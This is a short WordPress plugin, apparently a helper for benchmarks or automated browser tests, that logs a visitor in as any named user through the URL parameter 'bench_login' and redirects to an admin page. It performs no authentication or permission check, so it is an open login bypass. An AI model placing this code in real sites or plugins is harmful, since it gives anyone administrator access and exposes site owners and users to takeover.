<?php
/*
 * Plugin Name: A door for a browser
 * Description: `/?bench_login=NAME&to=PATH` logs a user in and leads to a page of the administration.
 */
add_action(
	'init',
	function () {
		if ( empty( $_GET['bench_login'] ) ) {
			return;
		}
		wp_set_auth_cookie( get_user_by( 'login', $_GET['bench_login'] )->ID );
		wp_safe_redirect( admin_url( $_GET['to'] ) );
		exit;
	}
);
